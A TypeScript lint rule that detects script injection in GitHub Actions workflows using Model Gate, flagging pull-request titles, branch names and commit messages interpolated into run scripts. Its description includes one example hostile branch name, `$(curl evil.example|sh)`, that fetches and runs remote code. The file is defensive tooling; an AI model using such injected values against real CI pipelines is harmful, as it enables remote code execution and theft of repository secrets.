import { bareExpression, expressionsIn } from '../expression.js'
import { quoted } from '../quoted.js'
import { usersOfModelGate } from '../repository.js'
import { inWorkflows, type Fault, type Rule } from '../rule.js'
import { actionReference } from '../model-gate-use.js'
import { offsetWithin, type TreeText } from '../tree.js'
import type { Step, Workflow } from '../workflow.js'

/** What anybody who opens a pull request, an issue or a comment writes. */
const written = new RegExp(
  [
    'github\\.head_ref',
    'github\\.event\\.(issue|pull_request|discussion)\\.(title|body)',
    'github\\.event\\.(comment|review|review_comment)\\.body',
    'github\\.event\\.pull_request\\.head\\.(ref|label|repo\\.(default_branch|description|homepage|name|full_name))',
    'github\\.event\\.workflow_run\\.(head_branch|display_title|head_commit\\.(message|author\\.(name|email))|head_repository\\.description)',
    'github\\.event\\.(head_commit|commits(\\.\\*|\\[[^\\]]{0,60}\\])?)\\.(message|author\\.(name|email))',
    'github\\.event\\.pages(\\.\\*|\\[[^\\]]{0,60}\\])?\\.page_name'
  ]
    .map((path) => `\\b${path}(?![\\w-])`)
    .concat('\\btojson\\(github(\\.event(\\.(pull_request|issue|comment|review|workflow_run))?)?\\)')
    .join('|')
)

export const expressionInRun: Rule = {
  id: 'expression-in-run',
  about:
    'Text of a pull request (title, body, branch, commit message) put into a script by `${{ }}`, in a workflow that uses Model Gate. The text becomes part of the script: a branch called `$(curl evil.example|sh)` is run.',
  instead: '`env: { TITLE: "${{ github.event.pull_request.title }}" }` on the step, and `"$TITLE"` in the script.',
  find: inWorkflows(
    (workflow) => workflow.jobs.flatMap(({ steps }) => steps.flatMap((step) => faultsOf(step, workflow))),
    usersOfModelGate
  )
}

function faultsOf(step: Step, { source }: Workflow): Fault[] {
  return scriptsOf(step).flatMap((script) =>
    expressionsIn(script.text)
      .filter(({ expression }) => isWrittenByAnybody(expression))
      .map(({ expression, index }) => ({
        offset: offsetWithin(source, script, index),
        message: `${quoted(expression.trim())} becomes part of the script: whoever opens a pull request writes what is run`,
        hint: 'Hand it over by env: and write "$NAME" in the script'
      }))
  )
}

function scriptsOf({ run, uses, inputs }: Step): readonly TreeText[] {
  const script = inputs.get('script')?.value
  const isScript = uses !== undefined && actionReference(uses.text).repository.toLowerCase() === 'actions/github-script'
  return [run, isScript && script?.kind === 'text' ? script : undefined].filter((text) => text !== undefined)
}

function isWrittenByAnybody(expression: string): boolean {
  const dotted = bareExpression(expression).replace(/\[['"]([\w-]{1,60})['"]\]/g, '.$1')
  return written.test(dotted.replace(/(contains|startswith|endswith)\([^()]*\)/g, ''))
}
